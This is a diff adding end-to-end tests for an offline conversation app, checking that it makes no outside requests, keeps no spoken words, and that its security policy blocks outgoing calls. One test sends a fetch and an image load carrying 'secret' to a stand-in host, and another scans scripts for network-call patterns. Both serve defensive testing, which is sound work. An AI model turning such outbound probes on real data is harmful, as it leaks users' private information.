@@ -1,0 +1,160 @@
+import { readdirSync, readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { expect, test } from '../support/app.ts';
+import { dealt } from '../support/dealt.ts';
+import { words } from '../support/said.ts';
+import { readKept } from '../support/stored.ts';
+import { builtFolder, pathsOf } from '../support/watch.ts';
+
+const { talk } = words;
+const { cards } = dealt('now');
+const morning = Date.parse('2026-11-23T10:00:00+01:00');
+
+test('over a whole sitting only the files of the build are asked for, and nothing once the table is open', async ({
+  page,
+  home,
+  table,
+  watched,
+  server,
+}) => {
+  await home.welcome();
+  await page.waitForFunction(() => navigator.serviceWorker.controller?.state === 'activated');
+  const before = watched.requests.length;
+  const reached = server.asked.length;
+  await home.sitDownToCheckIn();
+  await table.bothReady();
+  for (const [index, card] of cards.entries()) {
+    if (index > 0) await table.check({ a: 'checkGoOn', b: 'checkGoOn' });
+    await table.card(card.prompt, card.speakers);
+  }
+  await table.close();
+  await home.button(talk.doneHome).click();
+  await home.isOpen();
+  // The browser looks at the page's icon again by itself; the copy on the tablet answers.
+  const later = watched.requests.slice(before).map(({ url }) => url.pathname);
+  expect(later.filter((path) => path !== '/mark.svg')).toEqual([]);
+  expect(server.asked.slice(reached)).toEqual([]);
+  const asked = new Set(watched.requests.map(({ url }) => url.pathname));
+  expect([...asked].filter((path) => !pathsOf(builtFolder).has(path))).toEqual([]);
+  expect(watched.requests.some(({ worker }) => worker)).toBe(true);
+});
+
+test('after a sitting the tablet holds the settings and one trace, and no word that was said', async ({
+  page,
+  home,
+  table,
+}) => {
+  await page.clock.install({ time: morning });
+  await home.welcome();
+  await home.sitDownToCheckIn();
+  await table.bothReady();
+  await table.pauseNow();
+  await table.touch('a', words.pause.goOn);
+  await table.card(cards[0]!.prompt, cards[0]!.speakers);
+  await table.check({ a: 'checkGoOn', b: 'checkEnough' });
+  await table.close();
+
+  const { records, state, slots } = await readKept(page);
+  expect(state.map(({ id }) => id)).toEqual(['settings']);
+  expect(slots).toEqual([]);
+  expect(records).toHaveLength(1);
+  const held = records[0]!.value as Record<string, unknown>;
+  expect(Object.keys(held).sort()).toEqual(['conversation', 'finished', 'id', 'on', 'prompts']);
+  expect(held).toMatchObject({ conversation: 'now', finished: true, prompts: [cards[0]!.prompt] });
+  expect(held.on).toBeGreaterThanOrEqual(morning);
+
+  const elsewhere = await page.evaluate(async () => ({
+    local: { ...localStorage },
+    session: { ...sessionStorage },
+    cookies: document.cookie,
+    databases: (await indexedDB.databases()).map(({ name }) => name),
+    cached: (await Promise.all((await caches.keys()).map(async (name) => (await caches.open(name)).keys())))
+      .flat()
+      .map(({ url }) => new URL(url).pathname),
+    title: document.title,
+  }));
+  expect(elsewhere.local).toEqual({ 'first-paint': 'yes system 100' });
+  expect(elsewhere.session).toEqual({});
+  expect(elsewhere.cookies).toBe('');
+  expect(elsewhere.databases).toEqual(['common-ground']);
+  expect(elsewhere.cached.filter((path) => !pathsOf(builtFolder).has(path))).toEqual([]);
+  expect(elsewhere.title).toBe(words.common.app);
+});
+
+test('a sitting stopped and let go tells from no record who stopped, paused or skipped', async ({
+  page,
+  home,
+  table,
+}) => {
+  await home.welcome();
+  await home.sitDownToCheckIn();
+  await table.bothReady();
+  await table.show('a');
+  await table.pauseNow();
+  await table.touch('b', words.pause.goOn);
+  await table.touch('a', talk.gentler);
+  await table.touch('b', talk.skip);
+  await table.stop('b');
+  const during = JSON.stringify((await readKept(page)).state.find(({ id }) => id === 'sitting'));
+  expect(during).not.toMatch(/"(by|who|partner|paused|skipped|stoppedBy|count)"/i);
+  await table.touch('a', words.pause.letGo);
+  await expect(page.getByRole('heading', { name: talk.doneTitle })).toBeVisible();
+  const { records, state } = await readKept(page);
+  expect([records, state.map(({ id }) => id)]).toEqual([[], ['settings']]);
+});
+
+test('the policy refuses every way out that a script has', async ({ page, home, watched }) => {
+  watched.expectConsole(/policy|Content Security|Trusted Type|TrustedScript|Refused|violat|Connection-Allowlist|blocked/i);
+  watched.expectRequest(/example\.invalid/);
+  await home.welcome();
+  const tried = await page.evaluate(async () => {
+    const out = 'https://example.invalid/?word=secret';
+    const refused = (run: () => unknown) => {
+      try {
+        return run() === false ? 'refused' : 'let through';
+      } catch {
+        return 'refused';
+      }
+    };
+    const seen = new Promise<boolean>((resolve) => {
+      const image = new Image();
+      image.onload = () => resolve(true);
+      image.onerror = () => resolve(false);
+      image.src = out;
+    });
+    return {
+      fetch: await fetch(out, { mode: 'no-cors' }).then(
+        () => 'let through',
+        () => 'refused',
+      ),
+      image: (await seen) ? 'let through' : 'refused',
+      html: refused(() => {
+        document.createElement('p').innerHTML = '<b>x</b>';
+      }),
+      worker: refused(() => new Worker('other.js')),
+    };
+  });
+  expect(tried).toEqual({ fetch: 'refused', image: 'refused', html: 'refused', worker: 'refused' });
+});
+
+test('no script of the pages holds a call that could send anything', () => {
+  const assets = join(builtFolder, 'assets');
+  const scripts = readdirSync(assets).filter((name) => name.endsWith('.js'));
+  expect(scripts.length).toBeGreaterThan(1);
+  for (const name of scripts) {
+    const text = readFileSync(join(assets, name), 'utf8');
+    expect(text, name).not.toMatch(/\bfetch\(|XMLHttpRequest|WebSocket|EventSource|sendBeacon|RTCPeerConnection|\beval\(/);
+  }
+});
+
+test('the watch of these tests sees a warning and a request to elsewhere', async ({ page, home, watched }) => {
+  await home.welcome();
+  await page.evaluate(() => {
+    // biome-ignore lint/suspicious/noConsole: this is what the watch is to see
+    console.warn('a warning');
+    new Image().src = 'https://example.invalid/';
+  });
+  await expect.poll(() => watched.faults.join('\n')).toMatch(/img-src https:\/\/example\.invalid/);
+  expect(watched.faults.join('\n')).toContain('console warning: a warning');
+  watched.faults.length = 0;
+});
